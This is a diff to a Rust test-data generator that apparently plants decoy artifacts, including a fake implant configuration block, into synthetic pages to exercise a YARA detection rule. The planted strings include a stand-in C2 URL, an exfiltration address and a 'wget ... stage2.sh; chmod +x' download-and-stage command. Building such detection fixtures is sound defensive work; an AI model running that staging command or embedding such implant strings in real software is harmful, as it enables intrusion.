@@ -51,9 +51,12 @@ const STORY: &[&str] = &[
 const STRINGS: &[&[u8]] = &[
     b"\0https://c2.bad-example.net/gate.php?id=7f3a\0",
     b"\0exfil@bad-example.net\0",
-    b"\0wget http://198.51.100.23/stage2.sh -O /tmp/.x; chmod +x /tmp/.x\0",
-    b"\0DEMO-IMPLANT-BEACON-KEY=5d41402abc4b\0",
 ];
+
+/// Planted once, side by side: a configuration block of an implant.
+const IMPLANT: &[u8] =
+    b"\0DEMO-IMPLANT-BEACON-KEY=5d41402abc4b\0DEMO-IMPLANT-HOST=c2.bad-example.net\0\
+\0wget http://198.51.100.23/stage2.sh -O /tmp/.x; chmod +x /tmp/.x\0";
 
 /// One pixel, as PNG.
 const PNG: &[u8] = b"\x89PNG\x0d\x0a\x1a\x0a\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x0dIDA\
@@ -65,7 +68,7 @@ const RULES: &str = r#"rule demo_implant : implant {
         severity = "critical"
     strings:
         $key = "DEMO-IMPLANT-BEACON-KEY="
-        $host = "c2.bad-example.net" ascii wide
+        $host = "DEMO-IMPLANT-HOST=" ascii wide
     condition:
         $key and $host
 }
@@ -126,7 +129,8 @@ fn plant(n: u64, pages: u64, page: &mut [u8]) {
             .flat_map(u16::to_le_bytes)
             .collect(),
         6 => PNG.to_vec(),
-        _ => STRINGS.get(k % 6).map(|s| s.to_vec()).unwrap_or_default(),
+        7 => IMPLANT.to_vec(),
+        _ => STRINGS.get(k % 4).map(|s| s.to_vec()).unwrap_or_default(),
     };
     page[..what.len()].copy_from_slice(&what);
 }
